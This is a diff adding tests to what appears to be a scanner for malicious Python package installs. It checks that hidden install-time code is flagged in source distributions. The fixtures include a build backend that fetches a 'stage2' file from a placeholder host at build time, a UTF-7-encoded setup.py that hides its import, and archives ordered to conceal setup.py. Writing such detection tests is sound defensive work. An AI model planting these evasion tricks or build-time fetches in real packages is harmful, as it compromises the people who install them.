@@ -9,6 +9,7 @@ and a module of another folder.
 
 from __future__ import annotations
 
+import tarfile
 import textwrap
 from pathlib import Path
 
@@ -18,6 +19,7 @@ from caplet._findings import Severity
 from caplet._scan._installer_imports import (
     MAX_INSTALLER_MODULES,
     build_backends,
+    command_modules,
     installer_modules,
 )
 from caplet._scan._model import ScanMode
@@ -186,3 +188,142 @@ def test_the_backend_module_is_found_with_its_packages() -> None:
     present = {"pkg-1.0/pyproject.toml", "pkg-1.0/b/__init__.py", "pkg-1.0/b/api.py"}
     texts = {"pkg-1.0/pyproject.toml": _pyproject("b.api", 'backend-path = ["."]')}
     assert build_backends(present, texts.get) == {"pkg-1.0/b/__init__.py", "pkg-1.0/b/api.py"}
+
+
+# -- an sdist judged as its unpacked tree (attack8) -------------------------------------
+
+
+def _sdist(root: Path, target: Path) -> Path:
+    """``root``'s files as an sdist (``pkg-1.0/...`` in a gzipped tar), members in the
+    order that hides most: the install script last."""
+    files = sorted((p for p in root.rglob("*") if p.is_file()), key=lambda p: p.name == "setup.py")
+    with tarfile.open(target, "w:gz") as archive:
+        for path in files:
+            archive.add(path, arcname=f"pkg-1.0/{path.relative_to(root).as_posix()}")
+    return target
+
+
+_BACKEND_NETWORK = """\
+import urllib.request
+
+from setuptools.build_meta import *  # noqa
+
+urllib.request.urlopen("https://files.example.com/stage2").read()
+"""
+
+
+@pytest.mark.parametrize(
+    ("files", "expected"),
+    [
+        (
+            {"setup.py": _SETUP.format(importer="import _helper"), "_helper.py": _PAYLOAD},
+            {("CPL-THR-019", "_helper.py")},
+        ),
+        (
+            {
+                "setup.py": _SETUP.format(importer="from colour_build import steps"),
+                "colour_build/__init__.py": "",
+                "colour_build/steps.py": _PAYLOAD,
+            },
+            {("CPL-THR-019", "colour_build/steps.py")},
+        ),
+        (
+            {
+                "pyproject.toml": _pyproject("backend", 'backend-path = ["_build"]'),
+                "_build/backend.py": "from setuptools.build_meta import *  # noqa\n" + _PAYLOAD,
+            },
+            {("CPL-THR-019", "_build/backend.py")},
+        ),
+        # network at build time in an in-tree backend: pip runs it as it runs setup.py
+        (
+            {
+                "pyproject.toml": _pyproject("backend", 'backend-path = ["."]'),
+                "backend.py": _BACKEND_NETWORK,
+            },
+            {("CPL-THR-011", "backend.py")},
+        ),
+        # the near misses stay ordinary in an sdist too
+        ({"setup.py": _SETUP.format(importer=""), "_helper.py": _PAYLOAD}, set()),
+        (
+            {"setup.py": _SETUP.format(importer="import _helper"), "tools/_helper.py": _PAYLOAD},
+            set(),
+        ),
+        (
+            {
+                "setup.py": _SETUP.format(importer="from buildlib import fetch"),
+                "buildlib.py": "import urllib.request\n\n\ndef fetch(url):\n"
+                "    return urllib.request.urlopen(url).read()\n",
+            },
+            set(),
+        ),
+    ],
+)
+def test_an_sdist_is_judged_as_its_unpacked_tree(
+    tmp_path: Path, files: dict[str, str], expected: set[tuple[str, str]]
+) -> None:
+    # package mode streamed an sdist's members and decided install scripts per file (a
+    # setup.py), so what setup.py or a build backend imports was an ordinary module there
+    # and an install script on disk: pip run from it was found only unpacked (attack8)
+    root = _tree(tmp_path / "tree", files)
+    assert _danger(root) == expected
+    assert _danger(_sdist(root, tmp_path / "pkg-1.0.tar.gz")) == expected
+
+
+def test_an_install_scripts_imports_are_read_as_the_import_decodes_it(tmp_path: Path) -> None:
+    # a coding: utf-7 setup.py spells its import in UTF-7: read as UTF-8 it imported
+    # nothing, so the helper's pip was an ordinary module's, on disk and in an sdist
+    setup = (
+        "# -*- coding: utf-7 -*-\nfrom setuptools import setup\n+AGk-mport _helper\n"
+        "setup(name='colour')\n"
+    )
+    root = _tree(tmp_path / "tree", {"setup.py": setup, "_helper.py": _PAYLOAD})
+    expected = {("CPL-THR-019", "_helper.py")}
+    assert _danger(root) == expected
+    assert _danger(_sdist(root, tmp_path / "pkg-1.0.tar.gz")) == expected
+
+
+_COMMANDS = (
+    """\
+from setuptools.command.build_py import build_py
+
+"""
+    + _PAYLOAD
+    + """
+
+class BuildPy(build_py):
+    pass
+"""
+)
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        {
+            "pyproject.toml": '[build-system]\nrequires = ["setuptools>=64"]\n'
+            'build-backend = "setuptools.build_meta"\n[project]\nname = "colour"\n'
+            'version = "1.0"\n[tool.setuptools.cmdclass]\nbuild_py = "_cmds.BuildPy"\n'
+        },
+        {
+            "setup.cfg": "[metadata]\nname = colour\n[options]\ncmdclass =\n"
+            "    build_py = _cmds.BuildPy\n",
+            "setup.py": _SETUP.format(importer=""),
+        },
+    ],
+)
+def test_a_setuptools_command_a_configuration_names_is_the_installers(
+    tmp_path: Path, config: dict[str, str]
+) -> None:
+    # setuptools imports it to build, though no setup.py imports it (attack8)
+    root = _tree(tmp_path / "tree", {**config, "_cmds.py": _COMMANDS})
+    expected = {("CPL-THR-019", "_cmds.py")}
+    assert _danger(root) == expected
+    assert _danger(_sdist(root, tmp_path / "pkg-1.0.tar.gz")) == expected
+
+
+def test_a_command_module_outside_the_tree_or_a_broken_config_names_nothing() -> None:
+    present = {"pyproject.toml", "setup.cfg", "_cmds.py"}
+    texts = {"pyproject.toml": "[tool.setuptools.cmdclass\n", "setup.cfg": "[options\n"}
+    assert command_modules(present, texts.get) == set()
+    texts = {"setup.cfg": "[options]\ncmdclass =\n    build_py = elsewhere.BuildPy\n"}
+    assert command_modules(present, texts.get) == set()
